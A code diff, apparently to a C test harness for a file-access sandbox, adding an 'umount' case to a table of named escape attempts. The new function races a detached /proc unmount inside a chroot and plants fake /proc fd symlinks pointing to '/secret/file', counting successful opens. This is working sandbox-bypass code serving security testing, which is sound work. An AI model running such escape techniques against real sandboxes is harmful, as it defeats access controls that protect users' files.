@@ -535,6 +535,52 @@ static void make_false_root(void)
 	}
 }
 
+/* Beneath the /proc of the scene lies another, for which it makes room in a mount namespace of its own. */
+static void attack_umount(void)
+{
+	unshare(CLONE_NEWNS);
+	mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
+	if (fork() == 0) {
+		unshare(CLONE_NEWNS);
+		umount2("proc", MNT_DETACH);
+		for (int pid = getppid() - 8; pid < getpid() + 64; pid++) {
+			char names[128];
+			snprintf(names, sizeof names, "proc/%d", pid);
+			mkdir(names, 0755);
+			strcat(names, "/fd");
+			mkdir(names, 0755);
+			for (int fd = 3; fd < 48; fd++) {
+				snprintf(names, sizeof names, "proc/%d/fd/%d", pid, fd);
+				symlink("/secret/file", names);
+			}
+		}
+		_exit(0);
+	}
+	wait(NULL);
+	while (goes_on()) {
+		int status;
+		pid_t child = fork();
+		if (child == 0) {
+			unshare(CLONE_NEWNS);
+			if (chroot("."))
+				_exit(2);
+			pid_t other = fork();
+			if (other == 0) {
+				for (unsigned left = (unsigned)rounds * 977 % 200000; left; left--)
+					__asm__ volatile("" : : : "memory");
+				umount2("/proc", MNT_DETACH);
+				_exit(0);
+			}
+			for (int i = 0; i < 20 && !successes; i++)
+				judge(open("/open/file", O_RDWR));
+			waitpid(other, NULL, 0);
+			_exit(successes != 0);
+		}
+		waitpid(child, &status, 0);
+		successes += WIFEXITED(status) && WEXITSTATUS(status) == 1;
+	}
+}
+
 static int outside;
 
 static void *swap_root(void *unused)
@@ -998,7 +1044,7 @@ static const struct {
 	{ "ancestor", attack_ancestor }, { "ancestor-created", attack_ancestor_created }, { "ancestor-removed", attack_ancestor_removed },
 	{ "spelling", attack_spelling }, { "hard-link", attack_hard_link }, { "passed-descriptor", attack_passed_descriptor },
 	{ "dup2", attack_dup2 }, { "dup2-dirfd", attack_dup2_dirfd }, { "dup2-link", attack_dup2_link }, { "handle", attack_handle },
-	{ "bind-mount", attack_bind_mount }, { "mount-proc", attack_mount_proc }, { "chroot", attack_chroot }, { "address", attack_address },
+	{ "bind-mount", attack_bind_mount }, { "mount-proc", attack_mount_proc }, { "chroot", attack_chroot }, { "umount", attack_umount }, { "address", attack_address },
 	{ "pinned", attack_pinned }, { "pinned-fork", attack_pinned_fork }, { "exempt", attack_exempt }, { "processes", attack_processes },
 	{ "shim", attack_shim }, { "preload", attack_preload }, { "other-process", attack_other_process },
 	{ "untraced", attack_untraced }, { "reopened", attack_reopened }, { "exec", attack_exec },
